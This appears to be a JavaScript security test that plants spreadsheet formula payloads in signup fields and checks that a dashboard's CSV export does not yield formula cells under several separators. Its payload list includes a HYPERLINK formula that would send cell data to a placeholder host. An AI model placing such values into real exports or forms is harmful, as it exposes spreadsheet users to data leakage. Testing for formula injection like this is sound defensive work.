// Formulas in fields of a signup, exported and read as spreadsheets of several locales do.
import { claimOperator } from '../attack-parts/browser.mjs';
import { assess } from '../attack-parts/sockets.mjs';
import { startTarget } from '../attack-parts/target.mjs';

const FORMULAS = ['=HYPERLINK("http://x/?"&A1)', '+1+cmd', '-2+3', '@SUM(A1)', '＝1+1'];
const WRAPPERS = [
  (formula) => formula,
  (formula) => `x;${formula}`,
  (formula) => `x;"${formula}"`,
  (formula) => `x\t${formula}`,
  (formula) => `x\t"${formula}`,
  (formula) => `x,"${formula}`,
  (formula) => `x\r\n${formula}`,
  (formula) => ` "${formula}`,
  (formula) => `\t${formula}`,
];
const SEPARATORS = [',', ';', '\t'];

export const attack = {
  what: `${FORMULAS.length * WRAPPERS.length} session ids with formulas, alone and behind separators and quotation marks, exported and read with \`,\`, \`;\` and tabs`,
  before: '`x;"=HYPERLINK(…)` was a formula for readers that split at `;`',
  async run() {
    const target = await startTarget({ plan: 'business' });
    const ids = FORMULAS.flatMap((formula) => WRAPPERS.map((wrap) => wrap(formula)));
    for (const [at, session_id] of ids.entries()) {
      const { status, text } = await assess(target, { email: `jo${at}@example.com`, session_id });
      if (status !== 200) throw new Error(`a signup was answered ${status}: ${text}`);
    }
    const operator = await claimOperator(target);
    const path = `/dashboard/api/accounts/${target.account}/assessments.csv?mode=live`;
    const { status, text } = await operator.send('GET', path);
    const rows = text.split('\r\n').filter((line) => line.includes('req_')).length;
    const cells = SEPARATORS.map((separator) => readCells(text, separator).filter(isFormula));
    const failures = cells.flatMap((found, at) =>
      found.map((cell) => `with ${JSON.stringify(SEPARATORS[at])}: ${cell}`),
    );
    if (status !== 200 || rows < ids.length) failures.push(`${status}, ${rows} rows of ${ids.length}`);
    return {
      seen: `${rows} rows; formulas for ${SEPARATORS.map((separator, at) => `${separator === '\t' ? 'tab' : `\`${separator}\``} ${cells[at].length}`).join(', ')}`,
      failures,
    };
  },
};

const isFormula = (cell) => /^["\s]*[=+\-@＝＋－＠]/.test(cell);

/** As RFC 4180, with another separator, and lenient as spreadsheets are. */
function readCells(text, separator) {
  const cells = [];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const letter = text[at];
    if (quoted && letter === '"' && text[at + 1] === '"') {
      cell += '"';
      at += 1;
    } else if (letter === '"' && (quoted || cell.trim() === '')) quoted = !quoted;
    else if (!quoted && (letter === separator || letter === '\r' || letter === '\n')) {
      cells.push(cell);
      cell = '';
    } else cell += letter;
  }
  return [...cells, cell];
}
